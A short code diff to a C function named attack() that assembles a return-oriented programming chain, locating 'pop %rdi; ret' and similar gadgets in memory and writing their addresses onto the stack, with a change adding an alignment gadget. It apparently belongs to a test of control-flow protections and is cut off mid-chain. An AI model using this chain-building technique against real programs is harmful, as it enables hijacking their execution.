@@ -18,11 +18,12 @@ static uintptr_t ends_in(const char *bytes, size_t n)
 /* On its own stack, where its own frames stand above. */
 static void attack(void)
 {
-	volatile uintptr_t chain[10];
-	volatile uintptr_t *at = chain + 0;
+	volatile uintptr_t chain[12];
+	volatile uintptr_t *at = chain;
 	void *there[5] = { __builtin_frame_address(0), (void *)ends_in("\xc3", 1),
 			   (void *)(uintptr_t)at };
 
+	*at++ = ends_in("\xc3", 1); /* so that the stack is aligned in the end */
 	*at++ = ends_in("\x5f\xc3", 2); /* pop %rdi; ret */
 	*at++ = (uintptr_t)-1;
 	*at++ = ends_in("\x5e\xc3", 2); /* pop %rsi; ret */
